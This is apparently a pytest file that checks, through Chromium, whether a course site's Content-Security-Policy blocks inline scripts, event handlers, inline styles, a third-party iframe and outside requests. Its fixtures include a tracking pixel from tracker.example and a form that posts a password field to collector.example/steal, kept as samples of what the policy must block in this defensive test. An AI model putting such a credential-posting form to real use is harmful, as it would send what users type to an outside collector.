"""The Content-Security-Policy, seen from Chromium: inline script, handlers, styles and
forms posting elsewhere refused."""

import contextlib
from dataclasses import dataclass, field

from conftest import chapter

from benchmarks.audit import served


@dataclass
class OpenedChapter:
    """A chapter open in Chromium, with what it asked for and the CSP violations reported."""

    page: object
    base_url: str
    requested: list[str] = field(default_factory=list)
    blocked: dict[str, str] = field(default_factory=dict)
    violations: list[str] = field(default_factory=list)


@contextlib.contextmanager
def opened_chapter(browser, build_site, body: str, **options):
    """Build a one-chapter course with `body`, serve it and open the chapter in Chromium.

    With `fatal=False` the site is written even when the link gate finds problems (a
    resource the policy blocks), so the browser can show what the gate said.
    """
    build = build_site({"chapter1.md": chapter("One", "chapter1", body=body)}, **options)
    if options.get("fatal", True):
        assert build.exit_code == 0, build.log
    with served(build.output) as base_url:
        context = browser.new_context()
        try:
            opened = OpenedChapter(context.new_page(), base_url)
            opened.page.on("request", lambda request: opened.requested.append(request.url))
            opened.page.on(
                "requestfailed",
                lambda request: opened.blocked.update({request.url: request.failure}),
            )
            opened.page.on(
                "console",
                lambda message: (
                    opened.violations.append(message.text)
                    if "Content Security Policy" in message.text
                    else None
                ),
            )
            opened.page.goto(f"{base_url}/chapter1.html")
            yield opened
        finally:
            context.close()


def test_the_browser_runs_no_inline_script_and_asks_nothing_of_another_site(browser, build_site):
    body = (
        '<script>document.title = "inline script ran"</script>\n\n'
        '<img alt="tracker" src="https://tracker.example/pixel.png">\n\n'
        '<p onclick="document.title = \'handler ran\'" id="clickable">Click me</p>\n\n'
        '<p style="color: rgb(255, 0, 0)" id="styled">Red?</p>\n\n'
        '<a href="https://example.org/" target="_blank">Elsewhere</a>\n'
    )
    with opened_chapter(browser, build_site, body, fatal=False) as opened:
        opened.page.click("#clickable")
        title = opened.page.title()
        color = opened.page.eval_on_selector("#styled", "e => getComputedStyle(e).color")
    assert "ran" not in title
    assert color != "rgb(255, 0, 0)"
    # Chromium reports the request it refused; none may have gone out.
    outside = {
        url: opened.blocked.get(url)
        for url in opened.requested
        if not url.startswith(opened.base_url)
    }
    assert outside == {"https://tracker.example/pixel.png": "csp"}
    assert opened.violations, "the browser reported no Content-Security-Policy violation"


def test_an_embed_loads_when_csp_allow_allows_it_and_the_gate_names_the_setting_when_not(
    browser, build_site, tmp_path
):
    """What the gate reports as blocked, the browser blocks; CSP_ALLOW lets it load."""
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "video.html").write_text("<!DOCTYPE html><title>v</title><p id=v>Playing</p>")
    with served(elsewhere) as other:
        body = (
            f'<iframe src="{other}/video.html" title="A video" width="300" height="150"></iframe>'
        )
        # Not allowed: the gate names the setting, and the browser indeed loads nothing.
        with opened_chapter(browser, build_site, body, fatal=False) as opened:
            frame = opened.page.frame_locator("iframe").locator("#v")
            opened.page.wait_for_function("() => document.readyState === 'complete'")
            assert frame.count() == 0
            assert any("frame-src" in violation for violation in opened.violations)
        allow = {"CSP_ALLOW": {"frame-src": [other]}}
        with opened_chapter(browser, build_site, body, extra_settings=allow) as opened:
            assert opened.page.frame_locator("iframe").locator("#v").inner_text() == "Playing"


def test_a_form_in_a_chapter_cannot_send_what_a_student_types_to_another_site(browser, build_site):
    body = (
        '<form action="https://collector.example/steal" method="post">\n'
        '<input id="secret" name="secret" value="password">\n'
        '<button id="send" type="submit">Send</button>\n'
        "</form>\n"
    )
    with opened_chapter(browser, build_site, body) as opened:
        with opened.page.expect_console_message(lambda message: "form-action" in message.text):
            opened.page.click("#send", no_wait_after=True)
        address = opened.page.url
    assert address == f"{opened.base_url}/chapter1.html"
    assert not [url for url in opened.requested if "collector.example" in url]
    assert any("form-action" in violation for violation in opened.violations)
